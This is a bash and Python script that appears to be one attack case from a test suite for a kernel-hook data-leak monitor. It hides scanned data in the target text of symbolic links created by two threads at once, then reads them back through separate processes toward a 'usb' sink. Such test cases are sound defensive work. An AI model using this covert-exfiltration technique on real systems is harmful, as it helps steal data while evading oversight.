#!/usr/bin/env bash
# technique: two threads make symbolic links at once, whose texts are parts of the scan; each is read by a process of its own
# hooks: inode_symlink, d_instantiate (each link by itself), inode_readlink, file_open
# sink: usb

. attack.sh
mkdir "$ROOM/links"
python3 - "$ROOM/links" <<'PY'
from attack import *
import threading

def make(first, data):
    for number in range(first, 80, 2):
        os.symlink(data[number * 32:number * 32 + 32].hex(), f"{sys.argv[1]}/{number:03}")

data = scan()
threads = [threading.Thread(target=make, args=(first, data)) for first in (0, 1)]
[thread.start() for thread in threads]
[thread.join() for thread in threads]
PY
for link in "$ROOM/links/"*; do
    readlink "$link" >"$COPY-${link##*/}"
done
